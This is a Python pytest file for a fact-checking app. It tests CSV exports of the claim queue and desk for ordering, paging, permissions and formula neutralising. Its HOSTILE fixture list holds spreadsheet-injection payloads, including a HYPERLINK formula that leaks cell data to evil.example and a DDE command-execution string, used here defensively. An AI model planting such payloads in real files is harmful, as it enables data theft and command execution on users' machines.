"""CSV of the queue and the desk as filtered: the same claims in the same order as the pages,
streamed, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy import update

from factcheck.models import Claim, Role, utcnow
from factcheck.services import Actor
from factcheck.services.claims import update_claim
from factcheck.services.exports import COLUMNS, neutralise, view_claims
from factcheck.services.queue import ClaimFilter, list_claims

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1, "Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def test_formula_cells_are_neutralised() -> None:
    for cell in HOSTILE:
        assert neutralise(cell) == "'" + cell
    for cell in ("Taliban deny the raid", "2019-09-23 10:00", "", "a=b", " =1"):
        assert neutralise(cell) == cell
    assert neutralise(None) == "" and neutralise(12) == "12"


def _rows(response) -> list[dict[str, str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert tuple(rows[0]) == COLUMNS
    return [dict(zip(COLUMNS, row)) for row in rows[1:]]


@pytest.fixture
def editor(app, login_as):
    return login_as("editor", name="@eve the editor")


def test_queue_csv_with_hostile_cells(client, session, make, editor) -> None:
    hostile = [make.claim(text, tags=["-minus", "=eq"]) for text in HOSTILE]
    update_claim(session, hostile[0], Actor.system("test"), expected_version=1, assignee_id=editor.id)
    response = client.get("/editor/queue?format=csv&sort=age&tag=-minus")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.is_streamed
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="queue-') and disposition.endswith('.csv"')
    rows = _rows(response)
    assert [int(r["id"]) for r in rows] == [c.id for c in hostile]
    for row, text in zip(rows, HOSTILE):
        assert row["claim"] == "'" + text.strip()  # (the services strip what is typed)
        assert row["tags"] == "'-minus, =eq"
        assert row["desk page"].endswith(f"/desk/claims/{row['id']}")
    assert rows[0]["assignee"] == "'@eve the editor"
    # No cell of the file starts with what a spreadsheet runs.
    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r"]


def test_csv_is_the_view_as_filtered_and_sorted_on_every_page(client, session, make, editor) -> None:
    now = utcnow()
    claims = []
    for n in range(70):
        claim = make.claim(f"Claim {n:02d} about the {'raid' if n % 3 else 'flood'}")
        session.execute(update(Claim).where(Claim.id == claim.id).values(
            priority=n % 4, deadline=now + timedelta(hours=n % 7) if n % 2 else None))
        claims.append(claim)
    session.expire_all()
    for query, filt in (("sort=priority&q=raid", ClaimFilter(q="raid")),
                        ("sort=deadline", ClaimFilter()),
                        ("sort=age&status=unverified&published=0", ClaimFilter(published=False))):
        expected, cursor = [], None
        while True:
            page = list_claims(session, filt, sort=query.split("&")[0].split("=")[1], cursor=cursor)
            expected += [c.id for c in page.items]
            cursor = page.next_cursor
            if cursor is None:
                break
        assert [int(r["id"]) for r in _rows(client.get(f"/editor/queue?format=csv&{query}"))] == expected, query
    # Read a page at a time however long the view: three claims a page here.
    assert [c.id for c in view_claims(session, ClaimFilter(), sort="age", stale_after_days=7, page_size=3)] == \
        [c.id for c in claims]


def test_desk_csv_filtered_and_searched(client, session, make, login_as) -> None:
    raid = make.claim("=The raid in Musa Qala")
    make.claim("A flood in Helmand")
    checker = login_as("checker")
    update_claim(session, raid, Actor.system("test"), expected_version=1, assignee_id=checker.id)
    rows = _rows(client.get("/desk/?format=csv&status=unverified&sort=age&mine=1"))
    assert [r["claim"] for r in rows] == ["'=The raid in Musa Qala"]
    response = client.get("/desk/?q=raid&format=csv")
    assert response.headers["Content-Disposition"].startswith('attachment; filename="desk-')
    assert [int(r["id"]) for r in _rows(response)] == [raid.id]
    page = client.get("/desk/?status=unverified").get_data(as_text=True)
    assert "status=unverified&amp;format=csv" in page


def test_a_bad_view_is_refused_before_any_row(client, editor) -> None:
    for path in ("/editor/queue?format=csv&sort=nonsense", "/desk/?format=csv&sort=nonsense",
                 "/editor/queue?format=csv&stale=maybe"):
        response = client.get(path)
        assert response.status_code == 422 and response.mimetype == "text/html", path


def test_checkers_cannot_export_the_queue(client, login_as) -> None:
    login_as("checker")
    assert client.get("/editor/queue?format=csv").status_code == 403
